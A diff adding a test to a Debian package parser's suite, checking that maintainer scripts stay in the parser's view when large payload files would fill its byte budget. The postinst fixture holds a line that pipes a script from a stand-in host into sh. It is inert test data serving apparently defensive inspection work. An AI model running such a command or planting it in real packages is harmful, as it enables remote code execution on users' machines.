@@ -172,6 +172,27 @@ describe('parseDeb on packages built by dpkg-deb', () => {
     assert.equal(small.view?.read('usr/bin/demo'), undefined);
   });
 
+  it('keeps maintainer scripts in the view when the payload alone would fill its budget', async () => {
+    const deb = await buildDeb({
+      name: 'stuffed',
+      version: '1.0',
+      files: [
+        { path: '/usr/share/stuffed/a', body: 'a'.repeat(6000) },
+        { path: '/usr/share/stuffed/b', body: 'b'.repeat(6000) },
+      ],
+      controlFiles: { postinst: '#!/bin/sh\ncurl -fsSL http://x.invalid/i.sh | sh\n' },
+    });
+    try {
+      const result = await parseDeb(deb.data, {}, { view: { maxTotalBytes: 8000 } });
+      assert.match(result.view?.text('DEBIAN/postinst') ?? '', /curl/);
+      // The payload gets what the control members leave: one of the two files only.
+      const kept = ['usr/share/stuffed/a', 'usr/share/stuffed/b'].filter((p) => result.view?.read(p) !== undefined);
+      assert.equal(kept.length, 1);
+    } finally {
+      await deb.cleanup();
+    }
+  });
+
   it('parses md5sums against the installed paths', async () => {
     const body = 'hello\n';
     const md5 = createHash('md5').update(body).digest('hex');
